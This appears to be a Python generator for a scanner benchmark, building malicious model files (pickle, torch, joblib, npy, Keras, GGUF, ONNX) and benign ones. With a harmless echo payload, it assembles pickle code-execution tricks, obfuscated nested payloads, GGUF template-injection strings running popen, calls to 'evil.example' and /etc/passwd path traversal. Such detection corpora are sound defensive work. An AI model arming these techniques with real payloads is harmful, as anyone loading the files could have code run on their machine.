#!/usr/bin/env python3
"""Red-team corpus for `llmguard scan-model`: crafted malicious model files (one technique each)
and benign files written by real producers, for benches/redteam_compare.py.

    !!! NOTHING HERE IS EVER UNPICKLED OR LOADED. !!!

Malicious files are assembled opcode by opcode (or container byte by container byte); the
payload command is the harmless `echo llmguard-redteam`. Benign files come from the real
libraries (numpy, pandas, scikit-learn, joblib, onnx, gguf, keras with the numpy backend) and
are only *written* here. Needs a venv with those packages (see benches/redteam_compare.py).

Usage:  python3 benches/redteam_gen.py OUT_DIR
Writes OUT_DIR/malicious/* and OUT_DIR/benign/*, plus OUT_DIR/techniques.json
(file -> technique). Deterministic for the malicious half.
"""

import base64
import io
import json
import os
import struct
import sys
import tarfile
import zipfile
import zlib

CMD = "echo llmguard-redteam"
TECH = {}


def write(out, rel, data, technique):
    path = os.path.join(out, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    TECH[rel] = technique


# --- opcode emitters ------------------------------------------------------------------------

def sbu(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def bu(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sbytes(b):
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def glob(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sglob(m, n):
    return sbu(m) + sbu(n) + b"\x93"


P2 = b"\x80\x02"
P4 = b"\x80\x04"
P5 = b"\x80\x05"


def call2(m, n, *args):
    """protocol 2: GLOBAL m n, (args), REDUCE, STOP"""
    return P2 + glob(m, n) + b"(" + b"".join(sbu(a) if isinstance(a, str) else a for a in args) + b"tR."


def call4(m, n, *args):
    return P4 + sglob(m, n) + b"(" + b"".join(sbu(a) if isinstance(a, str) else a for a in args) + b"tR."


def body2(m, n, *args):
    """A call expression without PROTO/STOP (to embed)."""
    return glob(m, n) + b"(" + b"".join(sbu(a) if isinstance(a, str) else a for a in args) + b"tR"


def benign_prefix():
    return P2 + glob("collections", "OrderedDict") + b")R"


def torch_zip(members, name="archive"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for n, d in members:
            z.writestr(f"{name}/{n}", d)
    return buf.getvalue()


def torch_state_pickle():
    """A real-shaped torch state dict pickle: OrderedDict with one tensor rebuilt from storage 0."""
    return (P2 + glob("collections", "OrderedDict") + b")R" + b"q\x00" + sbu("weight") +
            glob("torch._utils", "_rebuild_tensor_v2") +
            b"(" + b"(" + sbu("storage") + glob("torch", "FloatStorage") + sbu("0") + sbu("cpu") +
            b"K\x04tQ" + b"K\x00" + b"K\x04\x85" + b"K\x01\x85" + b"\x89" +
            glob("collections", "OrderedDict") + b")R" + b"tR" + b"s.")


def npy(header, payload):
    h = header.encode("latin1")
    total = 10 + len(h) + 1
    pad = (64 - total % 64) % 64
    h = h + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + payload


def malicious(out):
    m = lambda rel, data, t: write(out, "malicious/" + rel, data, t)  # noqa: E731
    # --- direct process execution ---
    m("p0_os_system.pkl", glob("os", "system") + b"(S'" + CMD.encode() + b"'\ntR.", "protocol 0 GLOBAL os.system")
    m("p2_posix_system.pkl", call2("posix", "system", CMD), "posix.system")
    m("p4_nt_system.pkl", call4("nt", "system", CMD), "nt.system via STACK_GLOBAL")
    m("p2_subprocess_popen_list.pkl", P2 + glob("subprocess", "Popen") + b"((" + sbu("sh") + sbu("-c") + sbu(CMD) + b"ltR.", "subprocess.Popen([..])")
    m("p4_subprocess_check_output.pkl", call4("subprocess", "check_output", CMD), "subprocess.check_output")
    m("p2_subprocess_getoutput.pkl", call2("subprocess", "getoutput", CMD), "subprocess.getoutput")
    m("p2_os_popen.pkl", call2("os", "popen", CMD), "os.popen")
    m("p2_os_execvp.pkl", P2 + glob("os", "execvp") + b"(" + sbu("sh") + b"(" + sbu("sh") + sbu("-c") + sbu(CMD) + b"ltR.", "os.execvp")
    m("p2_pty_spawn.pkl", call2("pty", "spawn", "/bin/sh"), "pty.spawn")
    m("p2_posixsubprocess.pkl", call2("_posixsubprocess", "fork_exec", CMD), "_posixsubprocess.fork_exec")
    m("p2_asyncio_subprocess.pkl", call2("asyncio.subprocess", "create_subprocess_shell", CMD), "asyncio.subprocess")
    m("p2_multiprocessing_util_spawnv.pkl", call2("multiprocessing.util", "spawnv_passfds", "/bin/sh"), "multiprocessing.util.spawnv_passfds")
    m("p2_uuid_get_command_stdout.pkl", call2("uuid", "_get_command_stdout", "sh", "-c", CMD), "uuid._get_command_stdout runs a command")
    m("p2_osx_support_read_output.pkl", call2("_osx_support", "_read_output", CMD), "_osx_support._read_output runs os.system")
    m("p2_platform_syscmd_ver.pkl", call2("platform", "_syscmd_ver", CMD), "platform._syscmd_ver runs a command")
    m("p2_imaplib_stream.pkl", call2("imaplib", "IMAP4_stream", CMD), "imaplib.IMAP4_stream runs a command")
    m("p2_pydoc_pipepager.pkl", call2("pydoc", "pipepager", "x", CMD), "pydoc.pipepager")
    m("p2_ctypes_util_findlib.pkl", call2("ctypes.util", "find_library", "c"), "ctypes.util")
    m("p2_distutils_spawn.pkl", call2("distutils.spawn", "spawn", CMD), "distutils.spawn")
    m("p2_setuptools_sandbox.pkl", call2("setuptools.sandbox", "run_setup", "setup.py", b"]"), "setuptools")
    # --- eval / exec / compile / import ---
    m("p2_builtins_eval.pkl", call2("builtins", "eval", "__import__('os').system('%s')" % CMD), "builtins.eval")
    m("p2_builtin_exec_py2.pkl", call2("__builtin__", "exec", "import os"), "__builtin__.exec (py2 name)")
    m("p4_builtins_compile_exec.pkl",
      P4 + sglob("builtins", "exec") + b"(" + sglob("builtins", "compile") + b"(" + sbu("import os") + sbu("<x>") + sbu("exec") + b"tR" + b"tR.",
      "exec(compile(...))")
    m("p2_import_getattr_chain.pkl",
      P2 + glob("builtins", "getattr") + b"(" + glob("builtins", "__import__") + b"(" + sbu("os") + b"tR" + sbu("system") + b"tR(" + sbu(CMD) + b"tR.",
      "getattr(__import__('os'),'system')(cmd)")
    m("p2_getattr_builtins_eval_concat.pkl",
      P2 + glob("builtins", "getattr") + b"(" + glob("builtins", "dict") + b"(" + b")R" + sbu("ev") + b"tR.",
      "getattr on builtins with split name (getattr import)")
    m("p2_importlib_import_module.pkl", call2("importlib", "import_module", "os"), "importlib.import_module")
    m("p2_frozen_importlib.pkl", call2("_frozen_importlib", "_call_with_frames_removed", CMD), "_frozen_importlib internal import machinery")
    m("p2_frozen_importlib_external.pkl", call2("_frozen_importlib_external", "SourceFileLoader", "x", "/tmp/x.py"), "_frozen_importlib_external.SourceFileLoader")
    m("p2_imp_module.pkl", call2("_imp", "create_dynamic", "x"), "_imp.create_dynamic")
    m("p2_sitebuiltins.pkl", call2("_sitebuiltins", "_Printer", "x", "", b"]", (b"(" + sbu("/etc/passwd") + b"l")), "_sitebuiltins._Printer reads files")
    m("p2_pkgutil_resolve_name.pkl", call2("pkgutil", "resolve_name", "os:system"), "pkgutil.resolve_name")
    m("p2_pydoc_locate.pkl", call2("pydoc", "locate", "os.system"), "pydoc.locate")
    m("p2_runpy_run_path.pkl", call2("runpy", "run_path", "/tmp/x.py"), "runpy.run_path")
    m("p2_code_interactive.pkl",
      P2 + glob("operator", "methodcaller") + b"(" + sbu("runsource") + sbu("import os") + b"tR(" + glob("code", "InteractiveInterpreter") + b")R" + b"tR.",
      "methodcaller('runsource')(code.InteractiveInterpreter())")
    m("p2_timeit.pkl", call2("timeit", "timeit", "import os"), "timeit.timeit")
    m("p2_cprofile_run.pkl", call2("cProfile", "run", "import os"), "cProfile.run")
    m("p2_trace_runctx.pkl", call2("trace", "Trace"), "trace.Trace")
    m("p2_doctest_debug_script.pkl", call2("doctest", "debug_script", "import os"), "doctest.debug_script")
    m("p2_idlelib.pkl", call2("idlelib.pyshell", "main"), "idlelib")
    m("p2_lib2to3.pkl", call2("lib2to3.main", "main", "x"), "lib2to3")
    # --- attribute tricks ---
    m("p2_operator_attrgetter.pkl", call2("operator", "attrgetter", "system"), "operator.attrgetter")
    m("p2_operator_methodcaller.pkl", call2("_operator", "methodcaller", "system", CMD), "_operator.methodcaller")
    m("p2_operator_itemgetter_sysmodules.pkl",
      P2 + glob("operator", "itemgetter") + b"(" + sbu("os") + b"tR(" + glob("sys", "modules") + b"tR.",
      "itemgetter('os')(sys.modules)")
    m("p2_functools_partial.pkl",
      P2 + glob("functools", "partial") + b"(" + glob("os", "system") + sbu(CMD) + b"tR)R.",
      "functools.partial(os.system, cmd)()")
    m("p2_functools_reduce.pkl", P2 + glob("_functools", "reduce") + b"(" + glob("builtins", "print") + b"]" + b"tR.", "_functools.reduce")
    m("p2_builtins_setattr.pkl", call2("builtins", "setattr", "x", "y", "z"), "builtins.setattr")
    m("p2_builtins_vars.pkl", call2("builtins", "vars"), "builtins.vars")
    m("p4_dotted_name_globals.pkl", call4("builtins", "print.__self__.eval", "1"), "dotted STACK_GLOBAL name walking __self__")
    m("p4_dotted_torch_os.pkl", call4("torch.serialization", "os.system", CMD), "torch.serialization.os.system dotted name")
    m("p4_dotted_numpy_os.pkl", call4("numpy", "ctypeslib.os.system", CMD), "numpy.ctypeslib.os.system dotted name")
    m("p4_dotted_allowed_module_attr.pkl", call4("collections", "OrderedDict.__init__.__globals__", ""), "allowed class walked to __globals__")
    # --- nested deserialisers and code objects ---
    inner = call2("os", "system", CMD)
    m("p2_pickle_loads.pkl", P2 + glob("pickle", "loads") + b"(" + sbytes(inner) + b"tR.", "pickle.loads(nested)")
    m("p2_cpickle_loads.pkl", P2 + glob("_pickle", "loads") + b"(" + sbytes(inner) + b"tR.", "_pickle.loads")
    m("p2_marshal_loads.pkl", P2 + glob("marshal", "loads") + b"(" + sbytes(b"\xe3" + b"\0" * 20) + b"tR.", "marshal.loads")
    m("p2_types_codetype.pkl", call2("types", "CodeType", "x"), "types.CodeType")
    m("p2_types_functiontype.pkl", call2("types", "FunctionType", "x"), "types.FunctionType")
    m("p2_torch_load.pkl", call2("torch", "load", "/tmp/x.pt"), "torch.load inside a pickle")
    m("p2_torch_storage_load_from_bytes.pkl", P2 + glob("torch.storage", "_load_from_bytes") + b"(" + sbytes(inner) + b"tR.", "torch.storage._load_from_bytes")
    m("p2_torch_jit_load.pkl", call2("torch.jit", "load", "/tmp/x.pt"), "torch.jit.load")
    m("p2_torch_hub_load.pkl", call2("torch.hub", "load", "evil/repo", "m"), "torch.hub.load")
    m("p2_torch_fx_reduce_graph_module.pkl", call2("torch.fx.graph_module", "reduce_graph_module", b"}", "import os"), "torch.fx reduce_graph_module (exec)")
    m("p2_torch_package_importer.pkl", call2("torch.package.package_importer", "PackageImporter", "/tmp/x"), "torch.package")
    m("p2_torch_cpp_extension.pkl", call2("torch.utils.cpp_extension", "load_inline", "x", "int x;"), "torch.utils.cpp_extension.load_inline")
    m("p2_torch_rebuild_from_type_os.pkl",
      P2 + glob("torch._utils", "_rebuild_from_type_v2") + b"(" + glob("os", "system") + glob("builtins", "object") + b"(" + sbu(CMD) + b"t}tR.",
      "torch._utils._rebuild_from_type_v2(os.system, ...)")
    m("p2_numpy_load.pkl", call2("numpy", "load", "/tmp/x.npy", b"\x88"), "numpy.load(allow_pickle=True)")
    m("p2_numpy_runstring.pkl", call2("numpy.testing._private.utils", "runstring", "import os", b"}"), "numpy.testing._private.utils.runstring")
    m("p2_joblib_load.pkl", call2("joblib", "load", "/tmp/x"), "joblib.load")
    m("p2_dill_loads.pkl", P2 + glob("dill", "loads") + b"(" + sbytes(inner) + b"tR.", "dill.loads")
    m("p2_pandas_read_pickle.pkl", call2("pandas", "read_pickle", "/tmp/x.pkl"), "pandas.read_pickle")
    m("p2_pandas_io_pickle.pkl", call2("pandas.io.pickle", "read_pickle", "/tmp/x.pkl"), "pandas.io.pickle.read_pickle")
    m("p2_yaml_unsafe_load.pkl", call2("yaml", "unsafe_load", "!!python/object/apply:os.system ['id']"), "yaml.unsafe_load")
    m("p2_shelve_open.pkl", call2("shelve", "open", "/tmp/x"), "shelve.open")
    # --- file / network ---
    m("p2_shutil_rmtree.pkl", call2("shutil", "rmtree", "/tmp/llmguard-redteam"), "shutil.rmtree")
    m("p2_builtins_open_write.pkl", call2("builtins", "open", "/tmp/x", "w"), "builtins.open")
    m("p2_io_fileio.pkl", call2("_io", "FileIO", "/tmp/x", "w"), "_io.FileIO")
    m("p2_os_remove.pkl", call2("os", "remove", "/tmp/x"), "os.remove")
    m("p2_socket.pkl", P2 + glob("socket", "create_connection") + b"((" + sbu("evil.example") + b"M\x50\x00ttR.", "socket.create_connection")
    m("p2_webbrowser.pkl", call2("webbrowser", "open", "http://evil.example"), "webbrowser.open")
    m("p2_urllib_urlopen.pkl", call2("urllib.request", "urlopen", "http://evil.example"), "urllib.request.urlopen")
    m("p2_requests_get.pkl", call2("requests", "get", "http://evil.example"), "requests.get")
    m("p2_ctypes_cdll.pkl", call2("ctypes", "CDLL", "libc.so.6"), "ctypes.CDLL")
    m("p2_sys_modules_build.pkl", P2 + glob("sys", "modules") + b"}" + b"(" + sbu("os") + glob("builtins", "dict") + b")Ru" + b"b.", "BUILD on sys.modules")
    m("p2_tempfile.pkl", call2("tempfile", "mkstemp"), "tempfile.mkstemp")
    m("p2_sqlite3_connect.pkl", call2("_sqlite3", "connect", "/tmp/x.db"), "_sqlite3.connect")
    m("p2_logging_config_listen.pkl", call2("logging.config", "listen", b"M\x39\x05"), "logging.config.listen")
    m("p2_zipimport.pkl", call2("zipimport", "zipimporter", "/tmp/x.zip"), "zipimport")
    # --- copyreg / extension registry ---
    m("p2_copyreg_add_extension.pkl",
      P2 + glob("copyreg", "add_extension") + b"(" + sbu("os") + sbu("system") + b"K\xf0tR0" + b"\x82\xf0(" + sbu(CMD) + b"tR.",
      "copyreg.add_extension then EXT1")
    m("p2_ext1.pkl", P2 + b"\x82\x01(" + sbu(CMD) + b"tR.", "EXT1 opaque registry code")
    # --- opcode variety ---
    m("p0_inst_os_system.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "INST opcode")
    m("p1_obj_subprocess.pkl", b"(csubprocess\nPopen\n(S'sh'\nS'-c'\nS'" + CMD.encode() + b"'\nlo.", "OBJ opcode")
    m("p2_newobj_popen.pkl", P2 + glob("subprocess", "Popen") + b"(" + sbu(CMD) + b"t\x81.", "NEWOBJ")
    m("p4_newobj_ex_popen.pkl", P4 + sglob("subprocess", "Popen") + b"(" + sbu(CMD) + b"t}\x92.", "NEWOBJ_EX")
    m("p0_text_unicode.pkl", b"c__builtin__\neval\n(Vprint(1)\ntR.", "protocol 0 unicode VUNICODE")
    m("p4_memo_names.pkl", P4 + sbu("system") + b"\x94" + sbu("os") + b"\x94" + b"h\x01h\x00\x93(" + sbu(CMD) + b"tR.", "STACK_GLOBAL names from memo (BINGET)")
    m("p4_dup_names.pkl", P4 + sbu("posix") + b"\x94" + sbu("system") + b"\x93(" + sbu(CMD) + b"tR.", "STACK_GLOBAL after MEMOIZE")
    m("p4_names_in_frame.pkl", P4 + b"\x95" + struct.pack("<Q", 40) + sglob("os", "system") + b"(" + sbu(CMD) + b"tR.", "FRAME then STACK_GLOBAL")
    m("p2_long_binget_names.pkl", P2 + sbu("os") + b"r" + struct.pack("<I", 1000) + sbu("system") + b"r" + struct.pack("<I", 1001) +
      b"0" + b"0" + b"j" + struct.pack("<I", 1000) + b"j" + struct.pack("<I", 1001) + b"\x93(" + sbu(CMD) + b"tR.", "LONG_BINPUT/LONG_BINGET names")
    m("p2_build_setstate_popen.pkl", P2 + glob("subprocess", "Popen") + b")\x81" + b"}" + b"b.", "BUILD on a dangerous class")
    m("p2_unicode_module_with_space.pkl", P4 + sglob("os ", "system") + b"(" + sbu(CMD) + b"tR.", "module name with trailing space (fails in CPython; decoy)")
    m("p4_bytes_module_name.pkl", P4 + sbytes(b"os") + sbu("system") + b"\x93(" + sbu(CMD) + b"tR.", "STACK_GLOBAL with bytes module")
    # --- nesting inside benign pickles ---
    m("p2_base64_nested.pkl", benign_prefix() + b"0" + bu(base64.b64encode(inner).decode()) + b"0" + b"N.", "base64 pickle string inside a benign pickle")
    m("p2_zlib_nested.pkl", benign_prefix() + b"0" + sbytes(zlib.compress(inner)) + b"0N.", "zlib-compressed pickle bytes inside a benign pickle")
    m("p2_zlib_b64_nested.pkl", benign_prefix() + b"0" + bu(base64.b64encode(zlib.compress(inner)).decode()) + b"0N.", "base64(zlib(pickle)) string")
    m("p2_hex_nested.pkl", benign_prefix() + b"0" + bu(inner.hex()) + b"0N.", "hex pickle string inside a benign pickle")
    m("p2_raw_bytes_nested.pkl", benign_prefix() + b"0" + sbytes(inner) + b"0N.", "raw pickle bytes constant inside a benign pickle")
    # --- multiple streams / malformed ---
    m("two_streams.pkl", torch_state_pickle() + inner, "benign stream then os.system stream")
    m("garbled_then_reduce.pkl", P2 + glob("os", "system") + b"(" + sbu(CMD) + b"tR" + b"\xff" + b".", "REDUCE then an invalid opcode")
    m("garbled_before_reduce.pkl", benign_prefix() + b"\xfe" + body2("os", "system", CMD) + b".", "invalid opcode BEFORE the payload")
    m("truncated_stream.pkl", call2("os", "system", CMD)[:-2], "truncated after GLOBAL")
    m("stack_underflow_then_payload.pkl", P2 + b"0" + body2("os", "system", CMD) + b".", "POP on empty stack before payload")
    m("stop_then_junk_then_pickle.pkl", P2 + b"N." + b"\x00junk\x00" + inner, "junk between STOP and a second pickle")
    m("big_benign_then_payload.pkl", P2 + b"(" + b"".join(sbu("x" * 200) + b"0" for _ in range(20000)) + b"1" + body2("os", "system", CMD) + b".", "payload after 4 MB of benign opcodes")
    # --- containers ---
    m("torch_renamed_data_pkl.pt", torch_zip([("weights.pkl", inner), ("data/0", b"\0" * 16), ("version", b"3\n")]), "torch zip whose pickle is not data.pkl")
    m("torch_extra_pickle.pt", torch_zip([("data.pkl", torch_state_pickle()), ("data/0", b"\0" * 16), ("extra/evil.pkl", inner), ("version", b"3\n")]), "torch zip with an extra pickle member")
    m("torch_pickle_in_data0.pt", torch_zip([("data.pkl", torch_state_pickle()), ("data/0", inner), ("version", b"3\n")]), "pickle hidden in a storage member")
    m("torch_deflated.pt", (lambda: (lambda b, z: (z.writestr("archive/data.pkl", inner, zipfile.ZIP_DEFLATED), z.close(), b.getvalue())[2])(*(lambda b: (b, zipfile.ZipFile(b, "w")))(io.BytesIO())))(), "deflated data.pkl")
    m("torch_legacy_then_payload.pt", P2 + b"\x8a\x0alZ\xe4\xa3\x1a\x98\x6a\x0e\x95\x01" + b"." + inner, "legacy torch magic then payload")
    m("joblib_uncompressed.joblib", benign_prefix() + b"0" + body2("os", "system", CMD) + b".", "joblib-style uncompressed")
    m("joblib_zlib.joblib", zlib.compress(call2("os", "system", CMD)), "joblib compress=zlib (raw zlib stream)")
    m("npy_object.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", inner), ".npy object dtype")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("arr_0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", inner))
    m("npz_object.npz", buf.getvalue(), ".npz with an object member")
    m("npy_v2_object.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 118) + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + inner, ".npy v2 object dtype")
    # Keras v3 zip with a Lambda layer and an arbitrary module
    def keras_zip(config):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-01@00:00:00"}))
            z.writestr("config.json", json.dumps(config))
            z.writestr("model.weights.h5", b"")
        return b.getvalue()
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3" + b"\0" * 30).decode(), "defaults": None, "closure": None}}}, "registered_name": None}
    m("keras_lambda.keras", keras_zip({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [lam]}, "registered_name": None}), "Keras v3 Lambda layer")
    arb = {"module": "os", "class_name": "system", "config": {"command": CMD}, "registered_name": None}
    m("keras_arbitrary_module.keras", keras_zip({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [arb]}, "registered_name": None}), "Keras v3 layer with module os")
    arb2 = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1, "activation": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}}, "registered_name": None}
    m("keras_function_eval.keras", keras_zip({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [arb2]}, "registered_name": None}), "Keras v3 activation function builtins.eval")
    # tar / nested archives
    def tar_of(members, mode="w"):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode=mode) as t:
            for n, d in members:
                ti = tarfile.TarInfo(n)
                ti.size = len(d)
                ti.mtime = 0
                t.addfile(ti, io.BytesIO(d))
        return b.getvalue()
    m("tar_pickle.tar", tar_of([("model/model.pkl", inner)]), "pickle in a tar")
    m("tgz_torch.tar.gz", tar_of([("ckpt/model.pt", torch_zip([("data.pkl", inner)]))], "w:gz"), "torch zip in a tar.gz")
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w") as z:
        z.writestr("inner.tar", tar_of([("a.bin", inner)]))
    m("zip_tar_pickle.zip", zb.getvalue(), "zip > tar > pickle")
    # polyglot
    m("polyglot_pickle.safetensors", inner, "raw pickle named .safetensors")
    m("polyglot_pickle.gguf", inner, "raw pickle named .gguf")
    m("polyglot_pickle.onnx", inner, "raw pickle named .onnx")
    m("polyglot_pickle.h5", inner, "raw pickle named .h5")
    m("polyglot_pickle.json", inner, "raw pickle named .json")
    m("polyglot_pickle.txt", inner, "raw pickle named .txt")
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    m("safetensors_trailing_pickle.safetensors", struct.pack("<Q", len(hdr)) + hdr + b"\0" * 4 + inner, "valid safetensors with a pickle appended")
    # GGUF with malicious chat template
    def gguf(kvs):
        out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<QQ", 0, len(kvs))
        for k, v in kvs:
            kb = k.encode()
            vb = v.encode()
            out += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
        return out
    m("gguf_ssti.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template",
      "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}")]), "GGUF chat template SSTI")
    m("gguf_ssti_request.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template",
      "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}")]), "GGUF SSTI through request.application")
    m("gguf_ssti_attr_filter.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template",
      "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}")]), "GGUF SSTI attr filter with hex escapes")
    m("gguf_ssti_getitem.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template",
      "{{ lipsum['__glo'~'bals__']['o'~'s']['po'~'pen']('id') }}")]), "GGUF SSTI concatenated subscripts")
    # ONNX (hand-assembled protobuf)
    def pb_varint(n):
        o = b""
        while True:
            b = n & 0x7F
            n >>= 7
            if n:
                o += bytes([b | 0x80])
            else:
                return o + bytes([b])
    def pb_len(field, data):
        return pb_varint(field << 3 | 2) + pb_varint(len(data)) + data
    def pb_int(field, v):
        return pb_varint(field << 3) + pb_varint(v)
    def onnx_model(initializer=b"", nodes=b"", opsets=((b"", 17),)):
        graph = nodes + pb_len(2, b"g") + initializer
        model = pb_int(1, 8) + pb_len(2, b"redteam")
        for dom, ver in opsets:
            model += pb_len(8, pb_len(1, dom) + pb_int(2, ver))
        return model + pb_len(7, graph)
    def ext_tensor(location):
        entry = pb_len(1, b"location") + pb_len(2, location.encode())
        return pb_int(1, 4) + pb_int(2, 1) + pb_len(8, b"w") + pb_len(13, entry) + pb_int(14, 1)
    m("onnx_external_dotdot.onnx", onnx_model(initializer=pb_len(5, ext_tensor("../../../../etc/passwd"))), "ONNX external data ../ path")
    m("onnx_external_absolute.onnx", onnx_model(initializer=pb_len(5, ext_tensor("/etc/shadow"))), "ONNX external data absolute path")
    node = pb_len(1, b"x") + pb_len(2, b"y") + pb_len(4, b"EvilOp") + pb_len(7, b"com.evil")
    m("onnx_custom_domain.onnx", onnx_model(nodes=pb_len(1, node), opsets=((b"", 17), (b"com.evil", 1))), "ONNX custom operator domain")


def benign(out):
    import numpy as np
    import pickle
    import collections
    b = lambda rel, data, t: write(out, "benign/" + rel, data, t)  # noqa: E731

    def dumps_file(rel, obj, t, protocol=None):
        b(rel, pickle.dumps(obj, protocol=protocol), t)

    rng = np.random.default_rng(0)
    arr = rng.standard_normal((4, 3)).astype(np.float32)
    for p in (2, 3, 4, 5):
        dumps_file(f"np_arrays_p{p}.pkl", {"a": arr, "i": np.arange(5), "s": np.float64(1.5), "dt": np.dtype("datetime64[ns]"),
                                           "rec": np.zeros(2, dtype=[("x", "f4"), ("y", "i8")])}, "pickle of numpy arrays/scalars", p)
    dumps_file("np_rng.pkl", {"rng": np.random.default_rng(1), "rs": np.random.RandomState(2)}, "numpy Generator and RandomState")
    dumps_file("np_datetime.pkl", np.array(["2024-01-01"], dtype="datetime64[D]"), "datetime64 array")
    dumps_file("np_str_arr.pkl", np.array(["a", "bc"]), "unicode array")
    dumps_file("np_masked.pkl", np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]), "masked array")
    od = collections.OrderedDict((f"layer{i}.weight", rng.standard_normal((2, 2))) for i in range(3))
    dumps_file("ordereddict_state.pkl", od, "OrderedDict state dict of ndarrays")
    bio = io.BytesIO()
    np.save(bio, arr)
    b("float.npy", bio.getvalue(), "np.save float")
    bio = io.BytesIO()
    np.save(bio, np.array([{"a": 1}, "x", None], dtype=object), allow_pickle=True)
    b("object.npy", bio.getvalue(), "np.save object array")
    bio = io.BytesIO()
    np.savez_compressed(bio, a=arr, b=np.arange(3))
    b("arrays.npz", bio.getvalue(), "np.savez_compressed")
    try:
        import pandas as pd
        df = pd.DataFrame({"a": [1, 2], "b": [0.5, 1.5], "c": ["x", "y"], "d": pd.to_datetime(["2024-01-01", "2024-01-02"]),
                           "e": pd.Categorical(["u", "v"])})
        bio = io.BytesIO()
        df.to_pickle(bio)
        b("pandas_df.pkl", bio.getvalue(), "DataFrame.to_pickle")
        dumps_file("pandas_series_p5.pkl", pd.Series([1.0, 2.0], index=pd.date_range("2024", periods=2)), "Series with DatetimeIndex", 5)
        dumps_file("pandas_multi.pkl", pd.DataFrame({"x": [1, 2]}, index=pd.MultiIndex.from_tuples([(1, "a"), (2, "b")])), "MultiIndex frame")
        dumps_file("pandas_interval.pkl", pd.Series(pd.interval_range(0, 3)), "interval series")
        dumps_file("pandas_tz.pkl", pd.Series(pd.date_range("2024", periods=2, tz="UTC")), "tz-aware series")
        dumps_file("pandas_period.pkl", pd.Series(pd.period_range("2024-01", periods=2, freq="M")), "period series")
        dumps_file("pandas_timedelta.pkl", pd.Series(pd.to_timedelta([1, 2], unit="s")), "timedelta series")
        dumps_file("pandas_nullable.pkl", pd.DataFrame({"a": pd.array([1, None], dtype="Int64"), "s": pd.array(["a", None], dtype="string")}), "nullable dtypes")
    except ImportError:
        pass
    import joblib
    from sklearn import datasets
    from sklearn.linear_model import LogisticRegression, Ridge, SGDClassifier
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, RandomForestRegressor, IsolationForest
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.svm import SVC
    from sklearn.cluster import KMeans
    from sklearn.decomposition import PCA
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler, OneHotEncoder, LabelEncoder, FunctionTransformer
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.compose import ColumnTransformer
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neural_network import MLPClassifier
    from sklearn.model_selection import GridSearchCV
    X, y = datasets.make_classification(n_samples=60, n_features=4, random_state=0)
    models = {
        "logreg": LogisticRegression(max_iter=50),
        "gbc": GradientBoostingClassifier(n_estimators=3),
        "hgb": HistGradientBoostingClassifier(max_iter=3),
        "rfr": RandomForestRegressor(n_estimators=2, max_depth=2),
        "iforest": IsolationForest(n_estimators=2, random_state=0),
        "knn": KNeighborsClassifier(),
        "svc": SVC(probability=True),
        "kmeans": KMeans(n_clusters=2, n_init=1),
        "pca": PCA(2),
        "sgd": SGDClassifier(max_iter=5),
        "ridge": Ridge(),
        "pipe": make_pipeline(StandardScaler(), PCA(2), LogisticRegression()),
        "calibrated": CalibratedClassifierCV(GaussianNB(), cv=2),
        "mlp": MLPClassifier(hidden_layer_sizes=(3,), max_iter=5),
        "grid": GridSearchCV(Ridge(), {"alpha": [0.1, 1.0]}, cv=2),
        "functrans": FunctionTransformer(np.log1p),
    }
    import warnings
    warnings.filterwarnings("ignore")
    for name, mdl in models.items():
        mdl.fit(X, y) if name != "functrans" else mdl.fit(np.abs(X))
        bio = io.BytesIO()
        joblib.dump(mdl, bio)
        b(f"sk_{name}.joblib", bio.getvalue(), f"joblib.dump {type(mdl).__name__}")
    tf = TfidfVectorizer().fit(["a cat sat", "a dog ran", "cats and dogs"])
    bio = io.BytesIO()
    joblib.dump(tf, bio, compress=3)
